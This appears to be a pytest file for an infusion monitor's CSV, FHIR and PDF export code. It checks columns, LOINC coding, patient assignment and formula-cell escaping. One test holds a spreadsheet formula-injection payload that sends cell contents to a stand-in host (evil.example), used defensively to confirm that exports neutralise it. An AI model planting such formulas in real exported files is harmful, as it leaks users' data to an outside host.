"""CSV and FHIR exports of a real recorded session (writer, service, database), checked column by column and
validated against the FHIR models."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fhir.resources.R4B.bundle import Bundle

from monitor.app.courses import CourseService
from monitor.app.export.csv import SAMPLE_COLUMNS, TIMELINE_COLUMNS, SafeWriter, write_csv
from monitor.app.export.fhir import session_bundle
from monitor.app.session_record import load_record
from monitor.app.session_service import SessionService
from monitor.cli import main
from monitor.clinical.entries import EntryKind
from monitor.storage.writer import SessionWriter
from tests.accounts import PIN, cli_user, make_account


def test_csv_has_every_sample_and_the_timeline_with_corrections(recorded_session, tmp_path: Path) -> None:
    db, sid = recorded_session
    samples_path, timeline_path = write_csv(load_record(db, sid), tmp_path / "out")
    with open(samples_path, newline="") as f:
        rows = list(csv.reader(f))
    assert tuple(rows[0]) == SAMPLE_COLUMNS
    assert len(rows) - 1 == 720 * 6
    hr = [r for r in rows[1:] if r[1] == "HR"]
    assert hr[0] == [
        "2026-01-01T00:00:00.200Z",
        "HR",
        "70.0",
        "/min",
        "2026-01-01T00:00:00.200Z",
        "2026-01-01T00:00:00.000Z",
    ]
    with open(timeline_path, newline="") as f:
        timeline = list(csv.DictReader(f))
    assert tuple(timeline[0].keys()) == TIMELINE_COLUMNS
    pain = next(r for r in timeline if r["kind"] == "score" and "Pain" in r["description"])
    assert (pain["description"], pain["status"], pain["correction_reason"]) == ("Pain 6/10", "amended", "misheard")
    assert pain["original_description"] == "Pain 7/10"
    nausea = next(r for r in timeline if r["kind"] == "side_effect")
    assert nausea["status"] == "struck" and nausea["correction_reason"] == "wrong patient"
    assert json.loads(next(r for r in timeline if "bolus" in r["description"].lower())["payload_json"]) == {
        "action": "bolus",
        "dose_mg": 10.0,
    }


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_neutralises_text_cells_that_a_spreadsheet_would_run(recorded_session, tmp_path: Path) -> None:
    db, sid = recorded_session
    with SessionWriter(db) as writer:
        service = SessionService(writer, sid, 1_767_225_600.0, clock=lambda: 1_767_225_600.0 + 3600, initials="KM")
        note = service.record(EntryKind.NOTE, {"note": "@SUM(1+1)"}, t=1_767_225_600.0 + 1200).result(5)
        service.strike(note.id, FORMULA).result(5)
        rass = service.record(EntryKind.SCORE, {"scale": "rass", "score": -1}, t=1_767_225_600.0 + 1300).result(5)
        service.amend(rass.id, {"scale": "rass", "score": -2}, "-2 not -1").result(5)
    samples_path, timeline_path = write_csv(load_record(db, sid), tmp_path / "out")
    with open(timeline_path, newline="") as f:
        timeline = list(csv.DictReader(f))
    struck = next(r for r in timeline if r["kind"] == "note")
    assert struck["correction_reason"] == "'" + FORMULA, "a live formula in a spreadsheet"
    assert struck["description"] == "Note: @SUM(1+1)", "text not at the cell's start is left as typed"
    assert next(r for r in timeline if r["entry_id"] == str(rass.id))["correction_reason"] == "'-2 not -1"
    with open(samples_path, newline="") as f:
        assert next(csv.reader(f))[0] == "time_utc"
        assert all(not cell.startswith("'") for row in csv.reader(f) for cell in row), "numbers stay numbers"


def test_safe_writer_quotes_only_text_cells_and_leaves_numbers_alone() -> None:
    out = io.StringIO()
    SafeWriter(out).writerow(["=1+2", "+1", "-x", "@A1", "\tTAB", "\rCR", "a=b", "", -1.5, -3, 0.0])
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["'=1+2", "'+1", "'-x", "'@A1", "'\tTAB", "'\rCR", "a=b", "", "-1.5", "-3", "0.0"]


def test_fhir_bundle_validates_and_codes_vitals_with_loinc(recorded_session) -> None:
    db, sid = recorded_session
    bundle = session_bundle(load_record(db, sid))
    Bundle.model_validate(bundle)  # raises on any structural error
    resources = [e["resource"] for e in bundle["entry"]]
    obs = [r for r in resources if r["resourceType"] == "Observation"]
    hr = [o for o in obs if o["code"]["coding"][0].get("code") == "8867-4"]
    assert len(hr) == 60, "one heart rate per minute"
    assert hr[0]["valueQuantity"]["code"] == "/min" and hr[0]["category"][0]["coding"][0]["code"] == "vital-signs"
    bp = [o for o in obs if o["code"]["coding"][0].get("code") == "85354-9"]
    assert len(bp) == 2, "two distinct cuff readings, not one per record"
    assert {c["code"]["coding"][0]["code"] for c in bp[1]["component"]} == {"8480-6", "8462-4", "8478-0"}
    pain = next(o for o in obs if o["code"]["coding"][0].get("code") == "72514-3")
    assert pain["valueInteger"] == 6 and pain["status"] == "amended"
    assert any(o["status"] == "entered-in-error" for o in obs)
    (med,) = [r for r in resources if r["resourceType"] == "MedicationAdministration"]
    assert med["status"] == "completed" and med["dosage"]["dose"]["value"] == pytest.approx(40 * 50 / 60 + 10, 0.01)


def test_the_record_names_the_patient_once_the_session_is_assigned(recorded_session) -> None:
    db, sid = recorded_session
    unassigned = load_record(db, sid)
    assert unassigned.patient is None and unassigned.patient_text.startswith("not assigned to a patient")
    anonymous = session_bundle(unassigned)["entry"][0]["resource"]
    assert anonymous["identifier"][0] == {"system": "urn:infusion-station-monitor:session", "value": str(sid)}
    with SessionWriter(db) as writer:
        courses = CourseService(writer)
        patient = courses.add_patient("Jane Doe", "MRN-77", "1970-05-01", "80", "penicillin").result(5)
        courses.assign(sid, courses.add_course(patient, "Autumn 2026").result(5)).result(5)

    record = load_record(db, sid)

    assert record.patient_text == "Jane Doe · MRN MRN-77 · born 1970-05-01 · 80 kg · allergies: penicillin"
    assert record.course_text == "Autumn 2026 (session 1 of 1 so far)"
    bundle = session_bundle(record)
    Bundle.model_validate(bundle)
    first = bundle["entry"][0]
    assert first["resource"]["identifier"][0]["value"] == "MRN-77"
    assert first["resource"]["identifier"][0]["type"]["coding"][0]["code"] == "MR"
    assert first["resource"]["name"] == [{"text": "Jane Doe"}] and first["resource"]["birthDate"] == "1970-05-01"
    subjects = {e["resource"]["subject"]["reference"] for e in bundle["entry"][1:]}
    assert subjects == {first["fullUrl"]}, "every observation and the infusion are about this patient"


def test_export_command_writes_csv_and_fhir(recorded_session, tmp_path: Path, capsys, monkeypatch) -> None:
    db, sid = recorded_session
    cli_user(monkeypatch, db)  # the command line signs in (issue 18)
    assert (
        main(["export", "--db", str(db), "--session", str(sid), "--format", "fhir", "--out", str(tmp_path / "b.json")])
        == 0
    )
    Bundle.model_validate(json.loads((tmp_path / "b.json").read_text()))
    assert (
        main(["export", "--db", str(db), "--session", str(sid), "--format", "csv", "--out", str(tmp_path / "csv")]) == 0
    )
    assert (tmp_path / "csv" / f"session-{sid}-samples.csv").is_file()
    assert main(["export", "--db", str(db), "--session", "99", "--format", "csv", "--out", str(tmp_path)]) == 2
    assert "no session 99" in capsys.readouterr().err


def test_export_command_writes_a_pdf_without_a_display(recorded_session, tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    db, sid = recorded_session
    make_account(db, "KM")  # signed in by INFUSION_MONITOR_USER, the PIN on stdin (issue 18)
    env = {k: v for k, v in os.environ.items() if k not in ("QT_QPA_PLATFORM", "DISPLAY")}
    env["INFUSION_MONITOR_USER"] = "KM"
    out = tmp_path / "record.pdf"
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "monitor",
            "export",
            "--db",
            str(db),
            "--session",
            str(sid),
            "--format",
            "pdf",
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        input=f"{PIN}\n",
        timeout=120,
        env=env,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert out.read_bytes().startswith(b"%PDF") and "pages" in result.stderr
